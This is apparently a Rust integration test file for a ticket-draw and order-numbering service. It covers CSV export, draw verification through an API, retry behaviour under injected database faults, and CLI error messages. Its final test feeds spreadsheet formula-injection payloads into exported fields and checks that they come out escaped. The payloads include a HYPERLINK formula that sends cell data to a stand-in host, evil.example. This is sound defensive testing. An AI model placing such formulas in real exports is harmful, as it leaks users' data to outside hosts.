//! The operator's command line: `tally export-draw` writes every purchase of a draw as CSV,
//! `tally verify-draw --api` checks a drawn draw through a running API.

use std::path::Path;
use std::process::{Command, Output};

use axum::http::StatusCode;
use serde_json::json;

use crate::helpers::{TestApp, endpoint, router, spawn_app};
use tally_testkit::fault_proxy::{FaultProxy, Faults};

/// `tally export-draw ARGS --output FILE` on the app's table.
async fn export_draw(app: &TestApp, args: &[&str], file: &Path) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_tally"));
    command
        .arg("export-draw")
        .args(args)
        .arg("--output")
        .arg(file)
        .env("TABLE_NAME", app.store.table())
        .env("DYNAMODB_ENDPOINT", endpoint());
    tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_writes_every_purchase_and_verify_checks_a_draw_through_the_api() {
    let app = spawn_app().await;
    let created = app
        .post(
            "/draws",
            &json!({"draw_id": "out", "total_tickets": 500, "stripes": 20,
                    "ticket_price": 250, "currency": "EUR"}),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED);
    for i in 0..30 {
        let payer = if i % 3 == 0 {
            json!(null)
        } else {
            json!(format!("payer, \"{i}\""))
        };
        let bought = app
            .post(
                "/draws/out/purchases",
                &json!({"payment_id": format!("p{i}"), "quantity": 1 + i % 4, "payer_id": payer,
                        "channel": if i % 5 == 0 { "postal" } else { "online" }}),
            )
            .await;
        assert_eq!(bought.status, StatusCode::CREATED, "{}", bought.body);
    }
    app.post(
        "/draws/out/purchases/p4/void",
        &json!({"reason": "refund, partial"}),
    )
    .await;
    let file = std::env::temp_dir().join(format!("tally-export-{}.csv", std::process::id()));
    let output = export_draw(&app, &["out"], &file).await;
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let sold: usize = (0..30).map(|i| 1 + i % 4).sum();
    let postal: usize = (0..30).filter(|i| i % 5 == 0).map(|i| 1 + i % 4).sum();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        said.contains(&format!(
            "30 purchases ({sold} tickets: {} online, {postal} postal)",
            sold - postal
        )),
        "{said}"
    );
    let mut reader = csv::Reader::from_path(&file).unwrap();
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        &header[..6],
        [
            "payment_id",
            "payer_id",
            "quantity",
            "tickets",
            "channel",
            "status"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    std::fs::remove_file(&file).ok();
    assert_eq!(rows.len(), 30);
    let p4 = rows.iter().find(|r| &r[0] == "p4").unwrap();
    assert_eq!(
        (&p4[1], &p4[5], &p4[7]),
        ("payer, \"4\"", "void", "refund, partial")
    );
    let p5 = rows.iter().find(|r| &r[0] == "p5").unwrap();
    assert_eq!((&p5[4], &p4[4]), ("postal", "online"));
    // What each buyer was charged: a postal entry nothing, a paid one quantity x price.
    assert_eq!((&p5[9], &p5[10]), ("0", "EUR"));
    assert_eq!((&p4[9], &p4[10]), ("250", "EUR"));
    let tickets: usize = rows.iter().map(|r| r[3].split(' ').count()).sum();
    assert_eq!(tickets, sold);

    // Filtered as the API's listing filters: the voided online purchases alone.
    let filters = ["out", "--status", "void", "--channel", "online"];
    let output = export_draw(&app, &filters, &file).await;
    assert!(output.status.success());
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        said.contains("1 purchases (1 tickets: 1 online, 0 postal)"),
        "{said}"
    );
    let filtered: Vec<String> = csv::Reader::from_path(&file)
        .unwrap()
        .records()
        .map(|r| r.unwrap()[0].to_owned())
        .collect();
    std::fs::remove_file(&file).ok();
    assert_eq!(filtered, ["p4"]);

    // Drawn, the draw checks out through a running API, commitment included.
    app.post("/draws/out/close", &json!({})).await;
    let drawn = app.post("/draws/out/winners", &json!({"prizes": 2})).await;
    assert_eq!(drawn.status, StatusCode::CREATED);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let server = tokio::spawn(tally::api::local_server::serve(
        listener,
        router(app.store.clone()),
        std::future::pending(),
        tally::api::local_server::DEFAULT_HEADER_READ_TIMEOUT,
    ));
    let verified = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_tally"))
            .args(["verify-draw", "out", "--api", &format!("http://{address}")])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    server.abort();
    assert!(
        verified.status.success(),
        "{}",
        String::from_utf8_lossy(&verified.stderr)
    );
    // p4 (one ticket) is void.
    let said = String::from_utf8_lossy(&verified.stdout).into_owned();
    assert!(
        said.contains(&format!("{} eligible tickets", sold - 1))
            && said.contains("Pick 2 for prize 2")
            && said
                .trim_end()
                .ends_with("ok: the draw holds (tally-draw-v2)"),
        "{said}"
    );
}

/// The bench's buyers repeat a 503 as clients do: a purchase whose transaction DynamoDB
/// failed on every SDK attempt (the outcome unknown) is sent again with its payment id,
/// and the sell-out completes instead of stopping at the first such answer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bench_repeats_an_unknown_outcome_instead_of_aborting() {
    let proxy = FaultProxy::start(&endpoint()).await;
    // Each attempt commits and then fails half the time: one purchase in eight exhausts
    // the SDK's three attempts.
    proxy.set(Faults {
        error_after: 0.5,
        operations: Some(vec!["TransactWriteItems".into()]),
        ..Faults::default()
    });
    let endpoint = proxy.endpoint();
    let output = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_tally"))
            .args(["bench", "--tickets", "200", "--buyers", "8"])
            .args([
                "--max-quantity",
                "5",
                "--warmup-tickets",
                "0",
                "--skip-naive",
            ])
            .args(["--skip-write-rate", "--skip-orders", "--skip-import-parse"])
            .args(["--skip-cold-start", "--skip-audit", "--skip-winners"])
            .args(["--skip-bundles", "--skip-mixed-sale", "--skip-single"])
            .args(["--skip-refunds"])
            .env("DYNAMODB_ENDPOINT", endpoint)
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(said.contains("buyers repeated"), "{said}");
    assert!(proxy.counts().errors_after > 0);
}

/// Runs `tally ARGS` as a newcomer would after `make run`: no `DYNAMODB_ENDPOINT`, no
/// AWS environment; `DYNAMODB_PORT` stands for the port `make run` was given.
fn run_local(port: &str, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_tally"))
        .args(args)
        .env_remove("DYNAMODB_ENDPOINT")
        .env_remove("AWS_REGION")
        .env_remove("AWS_DEFAULT_REGION")
        .env_remove("AWS_PROFILE")
        .env("DYNAMODB_PORT", port)
        .output()
        .unwrap()
}

fn stderr_of(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn table_commands_read_make_runs_dynamodb_local_and_tell_a_finding_from_a_failure_to_run() {
    let app = spawn_app().await;
    let reply = app
        .put(
            "/series/OPS",
            &json!({"format": "OPS{seq:4}", "reset": "never", "gapless": true}),
        )
        .await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    let order = json!({"series": "OPS", "source": "shop", "external_ref": "r1"});
    assert_eq!(
        app.post("/orders", &order).await.status,
        StatusCode::CREATED
    );
    let table = app.store.table().to_owned();
    let port = endpoint()
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_owned();
    let closed_port = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port().to_string()
    };
    let file = std::env::temp_dir().join(format!("tally-ops-{}.jsonl", std::process::id()));
    std::fs::write(&file, "{\"external_ref\": \"r2\"}\n").unwrap();
    let file = file.to_str().unwrap().to_owned();
    let closed = closed_port.clone();
    let outputs = tokio::task::spawn_blocking(move || {
        let audit = [
            "audit", "--series", "OPS", "--period", "all", "--table", &table,
        ];
        let missing = [
            "audit", "--series", "NONE", "--period", "all", "--table", &table,
        ];
        let draw = [
            "export-draw",
            "none",
            "--output",
            "/dev/null",
            "--table",
            &table,
        ];
        let import = [
            "import", &file, "--series", "NONE", "--source", "s", "--table", &table,
        ];
        [
            run_local(&port, &audit),
            run_local(&port, &missing),
            run_local(&closed, &audit),
            run_local(&port, &draw),
            run_local(&port, &import),
        ]
    })
    .await
    .unwrap();
    let [found, missing, unreachable, no_draw, no_series] = outputs;
    assert_eq!(found.status.code(), Some(0), "{}", stderr_of(&found));
    assert!(String::from_utf8_lossy(&found.stdout).contains("chain intact: 1 links"));
    for (output, says) in [
        (&missing, "NONE"),
        (&unreachable, "DYNAMODB_ENDPOINT"),
        (&no_draw, "none"),
        (&no_series, "NONE"),
    ] {
        let stderr = stderr_of(output);
        assert_eq!(output.status.code(), Some(2), "{stderr}");
        assert!(stderr.starts_with("tally: could not run: "), "{stderr}");
        assert!(stderr.contains(says), "{stderr}");
        assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    }
    assert!(stderr_of(&unreachable).contains(&format!("127.0.0.1:{closed_port}")));
}

/// Runs `tally` on the test's table and reads the CSV it wrote to `file`.
async fn export_rows(app: &crate::helpers::TestApp, args: &[&str], file: &str) -> Vec<Vec<String>> {
    let path = std::env::temp_dir().join(format!("{}-{file}", app.store.table()));
    let mut command = Command::new(env!("CARGO_BIN_EXE_tally"));
    command
        .args(args)
        .arg(&path)
        .env("TABLE_NAME", app.store.table())
        .env("DYNAMODB_ENDPOINT", endpoint());
    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(&path)
        .unwrap();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    std::fs::remove_file(&path).ok();
    rows
}

#[tokio::test]
async fn exports_write_cells_a_spreadsheet_would_evaluate_as_text() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"open")"#;
    let shown = format!("'{formula}");
    // A draw: a payer and a void reason that spreadsheets read as formulas.
    app.post("/draws", &json!({"draw_id": "sheet", "total_tickets": 10}))
        .await;
    let bought = app
        .post(
            "/draws/sheet/purchases",
            &json!({"payment_id": "p1", "quantity": 1, "payer_id": "@SUM(1+1)"}),
        )
        .await;
    assert_eq!(bought.status, StatusCode::CREATED, "{}", bought.body);
    let voided = app
        .post(
            "/draws/sheet/purchases/p1/void",
            &json!({"reason": formula}),
        )
        .await;
    assert!(voided.status.is_success(), "{}", voided.body);
    let rows = export_rows(&app, &["export-draw", "sheet", "--output"], "draw.csv").await;
    assert_eq!(rows.len(), 2);
    let reason = rows[0].iter().position(|h| h == "void_reason").unwrap();
    assert_eq!(
        (rows[1][1].as_str(), rows[1][reason].as_str()),
        ("'@SUM(1+1)", shown.as_str())
    );

    // A series: a reference, a void reason and a move's reason.
    app.put(
        "/series/SHEET",
        &json!({"format": "S{seq:3}", "reset": "never", "gapless": false}),
    )
    .await;
    let order = app
        .post(
            "/orders",
            &json!({"series": "SHEET", "source": "-shop", "external_ref": "-2-3"}),
        )
        .await;
    assert_eq!(order.status, StatusCode::CREATED, "{}", order.body);
    let voided = app
        .post(
            "/series/SHEET/orders/S001/void",
            &json!({"reason": formula}),
        )
        .await;
    assert!(voided.status.is_success(), "{}", voided.body);
    let moved = app
        .patch("/series/SHEET", &json!({"next": 5, "reason": "+1 skipped"}))
        .await;
    assert!(moved.status.is_success(), "{}", moved.body);
    let rows = export_rows(
        &app,
        &["export", "--series", "SHEET", "--period", "all", "--out"],
        "series.csv",
    )
    .await;
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(
        (
            rows[1][4].as_str(),
            rows[1][5].as_str(),
            rows[1][7].as_str()
        ),
        ("'-shop", "'-2-3", shown.as_str())
    );
    assert_eq!(rows[2][7], "'+1 skipped");
    // No cell of either file starts as a formula would.
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell}"
        );
    }
}
